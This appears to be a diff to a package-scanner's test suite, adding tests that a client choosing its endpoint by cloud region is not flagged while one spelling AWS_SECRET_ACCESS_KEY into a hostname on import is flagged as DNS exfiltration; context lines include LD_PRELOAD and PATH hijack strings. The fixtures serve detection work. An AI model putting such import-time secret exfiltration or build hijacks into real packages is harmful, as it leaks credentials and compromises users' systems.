@@ -3837,3 +3837,43 @@ def test_variable_settings_before_a_build_tool_leave_it_a_build_tool():
     assert severities(result, "capability.process") == {"low"}
     for hijack in ("LD_PRELOAD=/tmp/hook.so make", "PATH=/tmp/bin make"):
         assert severities(_chdir_build(hijack), "capability.process") == {"high"}
+
+
+# -- a cloud region and a length are not secrets -------------------------------------------------
+
+_EDGE = """
+import http.client
+import os
+
+EDGE_PATH = os.environ.get("DEMO_EDGE_PATH", "/api/spans")
+
+
+def edge_host():
+    host = "{{}}.edge.example.net/api/spans".format(os.environ.get({variable!r}))
+    if host.endswith(EDGE_PATH):
+        host = host[: -len(EDGE_PATH)]
+    return host
+
+
+connection = http.client.HTTPSConnection(edge_host(), timeout=2)
+connection.connect()
+"""
+
+
+def test_a_client_picking_its_endpoint_by_the_cloud_region_sends_no_secret():
+    """lumigo-tracer: its tracer connects on import to `{AWS_REGION}.edge...`, trimmed by the
+    length of a path from the environment: a region is where, and a length is a number."""
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _EDGE.format(variable="AWS_REGION")})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_secret_in_the_host_name_is_still_sent():
+    """DNS exfiltration: a key spelt into the host name leaves with the lookup."""
+    init = _EDGE.format(variable="AWS_SECRET_ACCESS_KEY")
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert severities(result, "intent.exfiltration") == {"critical"}
+    sliced = init.replace("host[: -len(EDGE_PATH)]", "host[: len(EDGE_PATH)]")
+    assert "critical" in severities(
+        scan({"setup.py": SETUP, "demo/__init__.py": sliced}), "intent.exfiltration"
+    )
